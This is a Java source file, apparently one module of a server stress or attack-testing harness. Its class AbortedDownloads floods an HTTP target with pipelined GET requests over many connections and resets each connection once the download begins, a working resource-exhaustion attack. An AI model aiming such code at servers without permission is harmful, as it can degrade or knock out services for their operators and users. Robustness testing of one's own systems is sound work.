package games.chalet.attack;

import java.io.IOException;
import java.net.Socket;

/** Downloads that are broken off by a reset as soon as they have begun. */
final class AbortedDownloads implements Attack {

  private static final int CONNECTIONS = 20;
  private static final int PIPELINED = 20;
  private static final int AT_ONCE = 10;

  @Override
  public void on(Target target) throws IOException {
    byte[] requests = Http.times(PIPELINED, Http.request("GET", target.script()));
    target.swarm(
        CONNECTIONS,
        (Socket first, int number) -> {
          abort(first, requests, target);
          for (int i = 1; i < AT_ONCE && target.goesOn(); i++) {
            try (Socket socket = target.connect()) {
              abort(socket, requests, target);
            }
          }
        });
  }

  private static void abort(Socket socket, byte[] requests, Target target) throws IOException {
    socket.setSoLinger(true, 0);
    socket.getOutputStream().write(requests);
    if (socket.getInputStream().read() < 0) {
      throw new IOException("closed");
    }
    target.count("broken off");
  }
}
